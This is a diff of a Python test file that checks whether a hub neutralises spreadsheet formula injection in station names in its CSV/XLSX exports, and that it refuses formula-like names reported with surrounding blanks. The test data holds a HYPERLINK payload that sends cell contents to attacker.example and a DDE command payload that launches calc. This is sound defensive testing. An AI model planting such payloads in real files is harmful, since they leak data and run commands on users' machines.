@@ -1,7 +1,7 @@
 """Text a spreadsheet would run as a formula reaches the hub's own CSV and XLSX exports
-neutralised, on a real hub: station names that passed every input check, one registered by the
-operator's command line (which checks none), one reported by a station in its facts behind a
-space (the hub refuses a reported name starting like a formula, but shows names trimmed)."""
+neutralised, on a real hub: a station name registered by the operator's command line (which
+checks none). A station reporting a name that starts like a formula is refused, blanks around it
+or not (the hub shows names trimmed)."""
 
 from __future__ import annotations
 
@@ -22,7 +22,7 @@ from tests.hub.web.web_client import Dashboard
 UNIT = "000.00.14.H05"
 REGISTERED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem")'
 REPORTED = "+cmd|' /C calc'!A0"
-NEUTRALISED = {"ST-CLI": "'" + REGISTERED, "ST-FACTS": "'" + REPORTED}
+NEUTRALISED = {"ST-CLI": "'" + REGISTERED, "ST-FACTS": "Quầy 2"}
 
 
 @pytest.fixture
@@ -57,7 +57,10 @@ def named(hub: HubHandle) -> HubHandle:
     facts = {"store_id": "store-2", "after": 0, "name": REPORTED, "events": []}
     body = {"station_id": "ST-FACTS", "at": "2026-12-01T08:00:00+07:00", "facts": facts}
     assert reporter.post("/api/v1/metrics", json=body).status_code == 422
-    body["facts"] = {**facts, "name": " " + REPORTED}
+    for hidden in (" " + REPORTED, "\u00a0" + REPORTED, REPORTED + " "):  # trimmed for display
+        body["facts"] = {**facts, "name": hidden}
+        assert reporter.post("/api/v1/metrics", json=body).status_code == 422, repr(hidden)
+    body["facts"] = {**facts, "name": "Quầy 2"}
     assert reporter.post("/api/v1/metrics", json=body).status_code == 200
     return hub
 
